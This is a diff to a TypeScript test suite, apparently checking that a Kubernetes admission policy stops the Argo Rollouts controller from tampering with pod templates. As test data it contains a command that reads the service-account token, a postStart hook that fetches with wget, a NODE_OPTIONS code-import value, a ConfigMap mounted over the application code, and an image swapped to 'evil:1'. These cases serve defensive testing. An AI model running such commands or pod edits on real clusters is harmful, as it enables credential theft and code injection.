@@ -204,8 +204,45 @@ describe("the Argo Rollouts controller's token, with the chart's cluster-wide ru
     const other = structuredClone(controllersReplicaSet);
     other.spec.template.spec.containers[0].image = "docker.io/library/alpine:3";
     other.spec.template.spec.containers[0].command = ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"];
-    expect(dryRun(other).output).toContain(
-      `${refusedBy(NAMES.replicaSets)}spec.template.spec: expected the pod template of the Rollout ${APPS}/queue-manager (containers queue-manager ${IMAGE}   as queue-manager); found queue-manager docker.io/library/alpine:3 sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token  as queue-manager`,
+    const refused = dryRun(other).output;
+    expect(refused).toContain(
+      `${refusedBy(NAMES.replicaSets)}spec.template: expected the pod template of the Rollout ${APPS}/queue-manager (containers queue-manager ${IMAGE} `,
+    );
+    expect(refused).toContain(
+      "found queue-manager docker.io/library/alpine:3 sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+    );
+    // queue-manager's own image and command, with a command of its own elsewhere (an attacker's review):
+    // a postStart hook, an exec probe, an env var that loads code, a volume over its code, a label of its own.
+    const variants: [string, (t: any) => void][] = [
+      ["a postStart hook", (t) => (t.spec.containers[0].lifecycle = { postStart: { exec: { command: ["sh", "-c", "wget http://x/"] } } })],
+      ["an exec probe", (t) => (t.spec.containers[0].livenessProbe = { exec: { command: ["sh", "-c", "id"] } })],
+      ["NODE_OPTIONS", (t) => t.spec.containers[0].env.push({ name: "NODE_OPTIONS", value: "--import=data:text/javascript,x" })],
+      [
+        "a ConfigMap over its code",
+        (t) => {
+          t.spec.volumes.push({ name: "code", configMap: { name: "evil" } });
+          t.spec.containers[0].volumeMounts.push({ name: "code", mountPath: "/app" });
+        },
+      ],
+      // A label the Rollout's template lacks (the selector still matches): another workload's NetworkPolicy or PodMonitor would select it.
+      ["a label of its own", (t) => (t.metadata.labels["app.kubernetes.io/component"] = "operator")],
+    ];
+    for (const [what, edit] of variants) {
+      const rs = structuredClone(controllersReplicaSet);
+      rs.spec.template.spec.containers[0].env ??= [];
+      rs.spec.template.spec.volumes ??= [];
+      rs.spec.template.spec.containers[0].volumeMounts ??= [];
+      edit(rs.spec.template);
+      expect([what, dryRun(rs).output]).toEqual([
+        what,
+        expect.stringContaining(`${refusedBy(NAMES.replicaSets)}spec.template: expected the pod template`),
+      ]);
+    }
+    // Its own labels choose the Rollout that adopts it: only its template's.
+    const relabelled = structuredClone(controllersReplicaSet);
+    relabelled.metadata.labels = { ...relabelled.metadata.labels, extra: "x" };
+    expect(dryRun(relabelled).output).toContain(
+      `${refusedBy(NAMES.replicaSets)}metadata.labels: expected a ReplicaSet's labels to be its template's; found extra`,
     );
     const elsewhere = { ...controllersReplicaSet, metadata: { ...controllersReplicaSet.metadata, namespace: OTHER } };
     expect(dryRun(elsewhere).output).toContain(
@@ -236,6 +273,39 @@ describe("the Argo Rollouts controller's token, with the chart's cluster-wide ru
     expect(dryRun(inOwn).output).toContain(
       `${refusedBy(NAMES.scope)}expected no ReplicaSet or pod written by the Argo Rollouts controller in its own namespace (${CTRL}); found CREATE apps/replicasets`,
     );
+  });
+
+  it("refuses a change of a pod's spec: a worker's image swapped would run with that worker's credentials (an attacker's review)", async () => {
+    const job = {
+      apiVersion: "batch/v1",
+      kind: "Job",
+      metadata: { name: "worker", namespace: APPS },
+      spec: {
+        template: { metadata: { labels: { app: "worker" } }, spec: { restartPolicy: "Never", containers: [{ name: "c", image: "x" }] } },
+      },
+    };
+    expect(kubectlWith(undefined, job, "create", "-f", "-").ok).toBe(true);
+    const pod = await eventually(
+      "the worker's pod",
+      () => JSON.parse(kubectl("get", "pods", "-n", APPS, "-l", "app=worker", "-o", "json")).items[0],
+    );
+    const swapped = { ...pod, spec: { ...pod.spec, containers: [{ ...pod.spec.containers[0], image: "evil:1" }] } };
+    expect(as(swapped, "replace", "-f", "-").output).toContain(
+      `${refusedBy(NAMES.scope)}expected the Argo Rollouts controller to change a pod's metadata only; found a change of the spec of ${pod.metadata.name}`,
+    );
+    // Its labels (ephemeral metadata, written by update: the chart grants no patch on pods), admitted.
+    // kwok updates the pod's status meanwhile: a replace that loses that race is a conflict, tried again.
+    const relabelled = await eventually("the pod relabelled", () => {
+      const current = JSON.parse(kubectl("get", "pod", pod.metadata.name, "-n", APPS, "-o", "json"));
+      const r = as(
+        { ...current, metadata: { ...current.metadata, labels: { ...current.metadata.labels, role: "canary" } } },
+        "replace",
+        "-f",
+        "-",
+      );
+      return r.output.includes("the object has been modified") ? undefined : r;
+    });
+    expect(relabelled).toEqual({ ok: true, output: `pod/${pod.metadata.name} replaced` });
   });
 
   it("refuses what the chart grants and the canary never needs: a Deployment update, a Job", () => {
